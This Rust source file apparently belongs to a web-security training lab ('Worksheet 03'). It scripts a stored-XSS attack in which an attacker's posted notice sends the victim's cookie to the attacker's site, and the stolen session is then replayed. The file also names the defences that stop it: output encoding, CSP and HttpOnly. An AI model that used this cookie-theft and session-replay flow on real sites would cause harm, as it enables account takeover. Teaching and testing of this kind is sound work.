//! XSS steals the cookie: a script in a notice reads `document.cookie` and sends it to the attacker,
//! who uses it on his own computer. Worksheet 03.
//!
//! `HttpOnly` hides the cookie from scripts, and that is all it does: `xss_rides_session.rs` gets
//! along without reading it.

use async_trait::async_trait;

use super::scenario::{ATTACKER, SCRIPT_PATIENCE, Scenario, ScenarioError, VICTIM};
use super::{Attack, Card, Engine, Outcome};
use crate::attacks::payloads;
use crate::client::caller::Call;
use crate::defences::policy::Name;

pub(super) struct XssStealsCookie;

const CARD: Card = Card {
    name: "xss-steals-cookie",
    title: "A script that steals the cookie",
    engine: Engine::Browser,
    victim: "Signed in; opens the notice board.",
    means: "The attacker posts a notice with a script, which loads an image from his own site with \
            document.cookie in its address.",
    evidence: "With the cookie that arrived the attacker's own client is greeted as the victim.",
    stopped_by: &[&[Name::Output], &[Name::Csp], &[Name::HttpOnly]],
    when_stopped: "The board showed the script as text, the browser refused to run it, or it found \
                   no session cookie to read.",
    shows: &["XSS-RUN", "XSS-STEAL", "CK-HTTPONLY", "HDR-CSP"],
    standards: &[
        "ASVS 3.3.4",
        "ASVS 1.2.1",
        "CWE-79",
        "CWE-1004",
        "WSTG-SESS-02",
    ],
};

#[async_trait]
impl Attack for XssStealsCookie {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        let portal = scenario.portal(scenario.scheme().await?);
        scenario.narrate("The attacker signs in as mallory and posts a notice with a script.");
        let mut attacker = scenario.actor("attacker");
        attacker.sign_in(ATTACKER).await?;
        let script = payloads::steal_cookie(&scenario.catcher());
        attacker.post_notice(&script).await?;

        scenario.narrate("The victim signs in and opens the notice board.");
        let victim = scenario.browser_actor("victim").await?;
        victim.sign_in(&portal, VICTIM).await?;
        victim.visit(&format!("{portal}/board")).await?;

        scenario.narrate("The attacker looks at what his site has received, and uses it.");
        let loot = scenario.wait_for_loot(SCRIPT_PATIENCE).await?;
        let stolen = loot.iter().find_map(|loot| loot.query("cookie"));
        let mut pairs = stolen.iter().flat_map(|cookies| cookies.split("; "));
        let session = pairs.find(|pair| pair.contains("session_"));
        let Some(session) = session else {
            return Ok(Outcome::Stopped(CARD.when_stopped.into()));
        };
        let replay = Call::get("/dashboard").with_cookie(Some(session.to_owned()));
        Ok(match attacker.greeted_as(replay).await? {
            Some(user) if user == VICTIM => {
                Outcome::Succeeded(format!("The stolen cookie opens {user}'s dashboard."))
            }
            _ => Outcome::Stopped(CARD.when_stopped.into()),
        })
    }
}
